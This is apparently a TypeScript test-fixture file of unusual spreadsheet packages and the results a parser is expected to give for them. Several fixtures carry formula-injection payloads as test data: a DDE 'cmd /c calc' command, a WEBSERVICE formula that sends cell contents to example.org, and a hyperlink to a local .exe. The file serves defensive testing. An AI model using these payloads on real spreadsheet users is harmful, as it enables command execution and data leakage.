/** Sound packages with cells, rows and sheets that few readers get right. */
import { row, sheet, workbookOf, workbookParts, zip, type Parts } from '../guard/files';
import type { OddFile } from './odd-file';

const first = (cell: string, more?: Parts) => (): Uint8Array => workbookOf(row(1, cell), '', more);
const text = (value: string) => first(`<c r="A1" t="str"><v>${value}</v></c>`);
const formula = (value: string) => first(`<c r="A1"><f>${value}</f><v>1</v></c>`);
const after = (xml: string) => (): Uint8Array => workbookOf(row(1, '<c r="A1"><v>1</v></c>'), xml);
const book = (change: (xml: string) => string): Parts => {
  const parts = workbookParts('');
  return { 'xl/workbook.xml': change(String(parts['xl/workbook.xml'])) };
};
const merges = (...ranges: readonly string[]): string =>
  `<mergeCells>${ranges.map((range) => `<mergeCell ref="${range}"/>`).join('')}</mergeCells>`;

export const CELLS: readonly OddFile[] = [
  [
    'inline rich text',
    first('<c r="A1" t="inlineStr"><is><r><t>万</t></r><r><rPr><b/></rPr><t>元</t></r></is></c>'),
    { cells: { A1: '万元' } },
  ],
  ['shared rich text', first('<c r="A1" t="s"><v>1</v></c>'), { cells: { A1: '万元' } }],
  ['a number as text', text('1E+05'), { cells: { A1: '1E+05' } }],
  ['a number with exponent', first('<c r="A1"><v>1.0E+5</v></c>'), { cells: { A1: 100_000 } }],
  ['text in a number cell', first('<c r="A1"><v>1,5</v></c>'), { cells: { A1: '1,5' } }],
  ['infinity', first('<c r="A1"><v>1E+999</v></c>'), { cells: { A1: '1E+999' } }],
  ['an error', first('<c r="A1" t="e"><v>#DIV/0!</v></c>'), { cells: { A1: '#DIV/0!' } }],
  ['a date of 1900', first('<c r="A1" s="1"><v>45047</v></c>'), { cells: { A1: '2023-05-01' } }],
  [
    'a date of 1904',
    first(
      '<c r="A1" s="1"><v>43585</v></c>',
      book((xml) => xml.replace('<sheets>', '<workbookPr date1904="1"/><sheets>')),
    ),
    { cells: { A1: '2023-05-01' } },
  ],
  [
    'a date in ISO 8601',
    first('<c r="A1" t="d"><v>2023-05-01T00:00:00</v></c>'),
    { cells: { A1: '2023-05-01' } },
  ],
  ['a Chinese built-in date', first('<c r="A1" s="2"><v>45047</v></c>'), { cells: { A1: '2023-05-01' } }],
  ['a style that does not exist', first('<c r="A1" s="99"><v>45047</v></c>'), { cells: { A1: 45_047 } }],
  [
    'rows and cells without addresses',
    () => workbookOf('<row><c><v>1</v></c><c><v>2</v></c></row><row><c><v>3</v></c></row>'),
    { cells: { A1: 1, B1: 2, A2: 3 } },
  ],
  ['a column of its own for every letter case', first('<c r="a1"><v>1</v></c>'), { cells: { A1: 1 } }],
  [
    'two cells of one address',
    first('<c r="A1"><v>1</v></c><c r="A1"><v>2</v></c>'),
    { refused: 'error.file-hostile' },
  ],
  [
    'rows out of order',
    () => workbookOf(row(2, '<c r="A2"><v>2</v></c>') + row(1, '<c r="A1"><v>1</v></c>')),
    { refused: 'error.file-hostile' },
  ],
  [
    'a cell below the last row',
    () => workbookOf(row(1_048_577, '<c r="A1048577"><v>1</v></c>')),
    { refused: 'error.file-hostile' },
  ],
  [
    'the last cell of a sheet, far from all others',
    () => workbookOf(row(1_048_576, '<c r="XFD1048576"><v>1</v></c>')),
    { refused: 'error.file-hostile', reason: '1 048 576 × 16 384' },
  ],
  [
    'a stray value in the last row',
    () => workbookOf(row(1_048_576, '<c r="C1048576"><v>1</v></c>')),
    { cells: { A1: null, C1048576: 1 }, rows: 1_048_576 },
  ],
  [
    'a stray value in the last column',
    () => workbookOf(row(9, '<c r="XFD9"><v>1</v></c>')),
    { cells: { A1: null, XFD9: 1 }, rows: 9 },
  ],
  ['= in front of a text', text('=1+1'), { cells: { A1: '=1+1' } }],
  ['+ in front of a text', text('+cmd|&apos;/c calc&apos;!A0'), { cells: { A1: "+cmd|'/c calc'!A0" } }],
  ['- in front of a text', text('-2+3'), { cells: { A1: '-2+3' } }],
  ['@ in front of a text', text('@SUM(1,1)'), { cells: { A1: '@SUM(1,1)' } }],
  ['a tab in front of a text', text('&#9;=1+1'), { cells: { A1: '\t=1+1' } }],
  ['a line break in front of a text', text('&#13;=1+1'), { cells: { A1: '\r=1+1' } }],
  [
    'DDE in a formula',
    formula('cmd|&apos;/c calc&apos;!A0'),
    { cells: { A1: "=cmd|'/c calc'!A0 → 1" }, flags: ['dde'] },
  ],
  [
    'WEBSERVICE',
    formula('WEBSERVICE(&quot;http://example.org/&quot;&amp;B1)'),
    { cells: { A1: '=WEBSERVICE("http://example.org/"&B1) → 1' } },
  ],
  [
    'HYPERLINK',
    formula('HYPERLINK(&quot;file:///c:/x.exe&quot;,1)'),
    { cells: { A1: '=HYPERLINK("file:///c:/x.exe",1) → 1' } },
  ],
  ['a reference to another file', formula('[1]表1!$A$1'), { cells: { A1: '=[1]表1!$A$1 → 1' } }],
  [
    'a picture in a cell (WPS)',
    first('<c r="A1" t="str"><f>_xlfn.DISPIMG(&quot;ID_1&quot;,1)</f><v>=DISPIMG("ID_1",1)</v></c>'),
    { cells: { A1: '=_xlfn.DISPIMG("ID_1",1) → =DISPIMG("ID_1",1)' } },
  ],
  ['a formula without result', first('<c r="A1"><f>1+1</f></c>'), { cells: { A1: '=1+1 → ?' } }],
  ['a follower of no formula', first('<c r="A1"><f t="shared" si="7"/><v>3</v></c>'), { cells: { A1: 3 } }],

  [
    'a validation on a million rows',
    after(
      '<dataValidations count="1"><dataValidation type="whole" sqref="A1:J1048576"><formula1>1</formula1></dataValidation></dataValidations>',
    ),
    { cells: { A1: 1 }, rows: 1 },
  ],
  [
    'a conditional format on a million rows',
    after(
      '<conditionalFormatting sqref="A1:XFD1048576"><cfRule type="expression" priority="1"><formula>1</formula></cfRule></conditionalFormatting>',
    ),
    { cells: { A1: 1 }, rows: 1 },
  ],
  [
    'a range merged over the whole sheet',
    after(merges('A1:XFD1048576')),
    { cells: { A1: 1, B2: null }, rows: 1 },
  ],
  [
    '20 000 merged ranges',
    after(merges(...Array.from({ length: 20_000 }, (_, index) => `B${2 * index + 1}:C${2 * index + 2}`))),
    { cells: { A1: 1, C2: 'merged B1', C10000: 'merged B9999', C10002: null } },
  ],
  [
    'overlapping merged ranges',
    after(merges('B1:C2', 'C2:D3')),
    { cells: { A1: 1, C2: 'merged B1', D3: null } },
  ],
  [
    'a protected sheet with a password',
    after(
      '<sheetProtection algorithmName="SHA-512" hashValue="x" saltValue="y" spinCount="100000" sheet="1"/>',
    ),
    { cells: { A1: 1 } },
  ],
  [
    'a defined name over the whole sheet',
    () =>
      zip({
        ...workbookParts(sheet(row(1, '<c r="A1"><v>1</v></c>'))),
        ...book((xml) =>
          xml.replace(
            '</sheets>',
            '</sheets><definedNames><definedName name="全部">表1!$A$1:$XFD$1048576</definedName></definedNames>',
          ),
        ),
      }),
    { cells: { A1: 1 }, rows: 1 },
  ],
  [
    'a very hidden sheet',
    () =>
      zip({
        ...workbookParts(sheet(row(1, '<c r="A1"><v>1</v></c>'))),
        ...book((xml) => xml.replace('sheetId', 'state="veryHidden" sheetId')),
      }),
    { cells: { A1: 1 } },
  ],
  [
    'a sheet name that Excel forbids',
    () =>
      zip({
        ...workbookParts(sheet(row(1, '<c r="A1"><v>1</v></c>'))),
        ...book((xml) => xml.replace('表1', 'a/b:[c]')),
      }),
    { cells: { A1: 1 }, sheets: ['a_b__c_'] },
  ],
];
